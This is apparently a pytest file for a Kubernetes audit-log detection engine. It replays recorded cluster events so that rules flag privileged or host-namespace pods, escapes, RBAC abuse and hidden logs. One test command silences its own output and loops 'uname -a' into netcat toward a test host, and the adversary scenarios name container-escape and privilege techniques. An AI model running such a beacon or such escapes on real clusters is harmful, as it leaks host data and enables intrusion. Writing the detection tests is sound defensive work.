"""The k8s audit rules on events recorded from a real kind cluster (tests/fixtures/kubernetes/).

Each fixture holds the Event dicts the audit-log sensor emitted for one scenario's objects during a
real run (`--backend kind`). Adversary fixtures must raise their rule, on the scenario's own object;
benign twins must raise nothing, and raise their rule once the policy that sanctions them is gone.

The recordings predate the sensor's ``kubernetes.pod.output_*`` fields (where a container's own
output goes, from a parse of its command: detectors/sensors/shell_output.py). The raw audit lines
were not kept, so those fields were added to the recorded events afterwards by the sensor's own
function, from each event's recorded command and args (every recorded pod has one container);
``test_output_fields_are_what_the_sensor_computes_from_the_recorded_command`` checks they still are.
The logs-hidden cases below go through the whole normaliser, on the recorded raw audit line
raw_pod_create_net_admin.audit.json with only its container's command replaced.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from detectors.engine import DEFAULT_RULE_DIR, DetectionEngine, load_rules
from detectors.event import object_ref
from detectors.policies import PolicyError, load_policy
from detectors.sensors.k8s_audit import AuditNormaliser, flatten

FIXTURES = Path(__file__).parents[1] / "fixtures" / "kubernetes"

EXEC = "stowaway.k8s.exec-into-pod"  # these scenarios check their effect through kubectl exec, which is seen too
ADVERSARY = {
    "deploy_privileged_pod": {"stowaway.k8s.privileged-pod", EXEC},
    "deploy_hostpath_pod": {"stowaway.k8s.hostpath-mount", EXEC},
    "deploy_host_pid_pod": {"stowaway.k8s.host-namespace-pod", EXEC},
    "escape_nsenter_node": {"stowaway.k8s.privileged-pod", "stowaway.k8s.host-namespace-pod",
                            "stowaway.k8s.exec-into-pod"},
    "exec_exec_into_pod": {"stowaway.k8s.exec-into-pod"},
    "deploy_system_namespace_pod": {"stowaway.k8s.system-namespace-deploy"},
    "logging_devnull_output": {"stowaway.k8s.logs-hidden"},
    "logging_shipper_opt_out": {"stowaway.k8s.logs-hidden"},
    "tamper_admission_webhook": {"stowaway.k8s.admission-config-change"},
    "rbac_cluster_admin_binding": {"stowaway.k8s.cluster-admin-binding"},
    # Recorded as raw audit lines (raw_<name>.audit.jsonl, test_rules_kubernetes_recorded.py); the events
    # are the normaliser's output on them.
    "rbac_broad_role_binding": {"stowaway.k8s.broad-role", "stowaway.k8s.cluster-admin-binding"},
    "exec_debug_container": {EXEC},
    "network_nat_redirect": {"stowaway.k8s.net-admin-pod", EXEC},
    # Forged sanctions (tests/unit/test_k8s_sanctions.py): each copies what a twin shows without its provenance.
    "escape_bare_agent_pod": {"stowaway.k8s.privileged-pod", "stowaway.k8s.hostpath-mount",
                              "stowaway.k8s.host-namespace-pod"},
    "deploy_deployer_namesake": {"stowaway.k8s.system-namespace-deploy"},
    "deploy_impersonated_deployer": {"stowaway.k8s.system-namespace-deploy"},
    "logging_self_provisioned_dev_namespace": {"stowaway.k8s.logs-hidden"},
}
BENIGN = {  # twin -> the rules its policy sanction keeps quiet
    "deploy_node_agent_daemonset": {"stowaway.k8s.privileged-pod", "stowaway.k8s.hostpath-mount",
                                    "stowaway.k8s.host-namespace-pod"},
    "deploy_deployer_rollout": {"stowaway.k8s.system-namespace-deploy"},
    "logging_dev_namespace_minimal": {"stowaway.k8s.logs-hidden"},
}


def events(name: str) -> list[dict]:
    return json.loads((FIXTURES / f"{name}.events.json").read_text())


def replay(name: str, policy_dirs: list[Path] | None = None) -> list:
    engine = DetectionEngine(load_rules([DEFAULT_RULE_DIR]),
                             load_policy(policy_dirs) if policy_dirs is not None else load_policy())
    alerts = []
    for event in events(name):
        alerts.extend(engine.process(copy.deepcopy(event)))
    return alerts


@pytest.mark.parametrize("name", sorted(ADVERSARY))
def test_adversary_fixture_raises_exactly_its_rules_on_its_own_objects(name):
    alerts = replay(name)
    assert {a.rule_id for a in alerts} == ADVERSARY[name]
    refs = {object_ref(e) for e in events(name)}
    assert {a.object for a in alerts} <= refs


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_twin_is_silent_under_the_policy(name):
    assert replay(name) == []


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_twin_alerts_once_the_policy_no_longer_sanctions_it(name, tmp_path):
    # Same telemetry, no sanction: what keeps the twin quiet is the policy, not the events.
    assert BENIGN[name] <= {a.rule_id for a in replay(name, policy_dirs=[tmp_path])}


def test_controller_made_pods_are_attributed_to_their_daemonset():
    pods = [e for e in events("deploy_node_agent_daemonset")
            if e.get("objectRef.resource") == "pods" and e.get("verb") == "create"
            and not e.get("objectRef.subresource")]
    assert pods, "the fixture holds the daemonset controller's pod creation"
    assert all(e["kubernetes.object.ref"].startswith("daemonset:") for e in pods)
    assert all(e["user.username"] == "system:serviceaccount:kube-system:daemon-set-controller" for e in pods)


@pytest.mark.parametrize("path", sorted(FIXTURES.glob("*.events.json")), ids=lambda p: p.name)
def test_fixtures_carry_no_lab_bookkeeping(path):
    assert "io.stowaway" not in path.read_text()


def test_normaliser_uses_sigmahq_field_names_and_strips_bookkeeping():
    raw = json.loads((FIXTURES / "raw_pod_create_net_admin.audit.json").read_text())
    assert "io.stowaway.run" in raw["requestObject"]["metadata"]["labels"]  # the raw line has it...
    event = AuditNormaliser().normalise(raw)
    assert event is not None
    assert not any("io.stowaway" in key for key in event)  # ...the event does not
    assert event["event.dataset"] == "kubernetes.audit"
    assert event["verb"] == "create"
    assert event["objectRef.resource"] == "pods"
    assert event["user.username"] == "kubernetes-admin"
    assert event["capabilities"] == ["NET_ADMIN"]
    assert event["kubernetes.object.ref"] == f"pod:{raw['responseObject']['metadata']['uid']}"


def test_normaliser_emits_a_request_once_across_its_stages():
    raw = json.loads((FIXTURES / "raw_pod_create_net_admin.audit.json").read_text())
    normaliser = AuditNormaliser()
    started = dict(raw, stage="ResponseStarted")
    assert normaliser.normalise(dict(raw, stage="RequestReceived")) is None
    assert normaliser.normalise(started) is not None
    assert normaliser.normalise(raw) is None


def test_flatten_merges_lists_of_objects_per_field():
    out: dict = {}
    flatten({"spec": {"containers": [{"name": "a", "securityContext": {"privileged": True}}, {"name": "b"}]}},
            "requestObject", out)
    assert out["requestObject.spec.containers.name"] == ["a", "b"]
    assert out["requestObject.spec.containers.securityContext.privileged"] is True


def test_output_fields_are_what_the_sensor_computes_from_the_recorded_command():
    checked = 0
    for path in sorted(FIXTURES.glob("*.events.json")):
        for event in json.loads(path.read_text()):
            # A pod of several containers (a patched-in sidecar) has their commands merged in the flattened
            # fields, so what the sensor computed per container cannot be recomputed from them here.
            if len(event.get("kubernetes.pod.images") or []) != 1:
                continue
            prefix = "requestObject.spec.template.spec.containers" \
                if "requestObject.spec.template.spec.containers.image" in event else "requestObject.spec.containers"
            container = {"name": event.get(f"{prefix}.name", ""), "command": event.get(f"{prefix}.command"),
                         "args": event.get(f"{prefix}.args")}
            computed: dict = {}
            AuditNormaliser._output_fields([container], computed)
            assert {k: v for k, v in event.items() if k.startswith("kubernetes.pod.output")} == computed, path.name
            checked += 1
    assert checked >= 15


LOGS_HIDDEN = "stowaway.k8s.logs-hidden"
POD_COMMANDS = {  # command -> does the pod hide its output from the log pipeline?
    ("curl", "-s", "-o", "/dev/null", "http://198.18.0.20/"): False,
    ("sh", "-c", "curl -sf -o /dev/null http://198.18.0.20/health && exec python3 -m http.server 8080"): False,
    ("sh", "-c", "until curl -sf http://198.18.0.20/ >/dev/null; do sleep 1; done; exec python3 -m http.server"): False,
    ("sh", "-c", "echo 'logs go to >/dev/null in prod'; exec python3 -m http.server"): False,
    ("sh", "-c", "exec python3 -m http.server 2>&1"): False,
    ("sh", "-c", "exec python3 -m http.server > /dev/null"): True,
    ("sh", "-c", "python3 -m http.server 1>/dev/null"): True,
    ("sh", "-c", "python3 -m http.server 2>&1 >/dev/null"): True,
    ("bash", "-c", "python3 -m http.server &>/dev/null"): True,
    ("sh", "-c", "exec >/dev/null 2>&1; while true; do uname -a | nc 198.19.0.10 4444; sleep 5; done"): True,
    ("sh", "-c", "exec python3 -m http.server >/var/log/web.log 2>&1"): True,
}


def _pod_create(command: tuple[str, ...]) -> dict:
    raw = json.loads((FIXTURES / "raw_pod_create_net_admin.audit.json").read_text())
    raw = copy.deepcopy(raw)
    container = raw["requestObject"]["spec"]["containers"][0]
    container["command"] = list(command)
    container["securityContext"] = {}  # only the command differs from an ordinary pod
    return raw


@pytest.mark.parametrize(("command", "hidden"), POD_COMMANDS.items(), ids=lambda v: str(v)[:60])
def test_logs_hidden_means_the_containers_own_output_is_sent_away(command, hidden):
    event = AuditNormaliser().normalise(_pod_create(command))
    assert event is not None
    engine = DetectionEngine(load_rules([DEFAULT_RULE_DIR]), load_policy())
    fired = {a.rule_id for a in engine.process(event)}
    assert (LOGS_HIDDEN in fired) is hidden, event.get("kubernetes.pod.output_targets")


def test_logs_hidden_names_where_the_output_went():
    event = AuditNormaliser().normalise(_pod_create(("sh", "-c", "exec app >/var/log/web.log 2>&1")))
    assert event is not None and event["kubernetes.pod.output_targets"] == ["/var/log/web.log"]
    assert event["kubernetes.pod.output_redirected_containers"] == ["proxy"]


def test_kubernetes_policy_is_strict(tmp_path):
    (tmp_path / "k.yaml").write_text("kind: kubernetes\nsanctioned_workloads:\n  - name: x\n    description: d\n"
                                     "    owner: o\n    match: {labels: [a]}\n")
    with pytest.raises(PolicyError, match="labels"):
        load_policy([tmp_path])
